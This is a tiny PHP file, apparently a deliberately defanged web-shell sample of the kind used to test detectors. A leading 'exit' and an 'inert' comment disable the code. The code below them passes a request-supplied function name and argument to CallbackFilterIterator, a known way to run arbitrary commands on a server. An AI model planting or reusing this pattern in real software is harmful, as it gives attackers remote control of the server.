<?php exit; /* inert */ 
$it = new CallbackFilterIterator(new ArrayIterator([$_REQUEST['p']]), $_REQUEST['cb']);
foreach ($it as $x) { echo 1; }
